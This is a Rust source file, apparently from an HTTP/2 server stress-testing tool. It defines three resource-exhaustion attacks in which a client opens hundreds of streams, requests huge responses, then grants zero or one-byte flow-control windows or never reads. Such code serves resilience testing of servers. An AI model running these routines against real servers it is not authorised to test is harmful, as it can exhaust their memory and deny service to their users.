//! Peers that ask for much and take little of it.

use crate::attacker::{Attacker, Over, request, streams};
use crate::calls::{SAY_HELLOS, greetings};
use crate::frames::window;
use crate::support::{DATA, END_STREAM, frame};
use crate::{Attack, Cost};

const INITIAL_WINDOW_SIZE: u16 = 4;
const LARGEST_WINDOW: u32 = 0x7fff_ffff;
/// What a connection has to begin with. RFC 9113 §6.9.2.
const FIRST_WINDOW: u32 = 0xffff;
/// As many as the server takes at once, nearly.
const STREAMS: usize = 990;

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new(
            "zero_windows_for_ever",
            Cost::Unread,
            &["open"],
            |attacker| Box::pin(zero_windows(attacker)),
        ),
        Attack::new("tiny_windows", Cost::Unread, &["open"], |attacker| {
            Box::pin(tiny_windows(attacker))
        }),
        Attack::new("never_reading", Cost::Unread, &["open"], |attacker| {
            Box::pin(never_reading(attacker))
        }),
    ]
}

/// Asks for a million messages a thousand times, and has no room for a byte.
async fn zero_windows(attacker: &mut Attacker) -> Result<(), Over> {
    attacker.begin_and_wait(&[(INITIAL_WINDOW_SIZE, 0)]).await?;
    ask_for_much(attacker, STREAMS).await?;
    attacker.listen().await?;
    Ok(())
}

/// Makes room for a byte at a time.
async fn tiny_windows(attacker: &mut Attacker) -> Result<(), Over> {
    const STREAMS: u64 = 100;
    attacker.begin_and_wait(&[(INITIAL_WINDOW_SIZE, 1)]).await?;
    attacker
        .send(&window(0, LARGEST_WINDOW - FIRST_WINDOW))
        .await?;
    let count = usize::try_from(STREAMS).unwrap();
    ask_for_much(attacker, count).await?;
    let one_each: Vec<u8> = streams()
        .take(count)
        .flat_map(|stream| window(stream, 1))
        .collect();
    let mut bytes = STREAMS;
    loop {
        attacker.hear(|heard| heard.data_bytes >= bytes).await?;
        attacker.send(&one_each).await?;
        bytes += STREAMS;
    }
}

/// Has room for all of it, but does not read.
async fn never_reading(attacker: &mut Attacker) -> Result<(), Over> {
    attacker
        .begin_and_wait(&[(INITIAL_WINDOW_SIZE, LARGEST_WINDOW)])
        .await?;
    attacker
        .send(&window(0, LARGEST_WINDOW - FIRST_WINDOW))
        .await?;
    attacker.turn_deaf();
    ask_for_much(attacker, STREAMS).await?;
    attacker.hold().await
}

async fn ask_for_much(attacker: &mut Attacker, count: usize) -> Result<(), Over> {
    let message = greetings(&"x".repeat(100), 1_000_000);
    for stream in streams().take(count) {
        attacker.send(&request(stream, SAY_HELLOS, &[])).await?;
        attacker
            .send(&frame(DATA, END_STREAM, stream, &message))
            .await?;
    }
    Ok(())
}
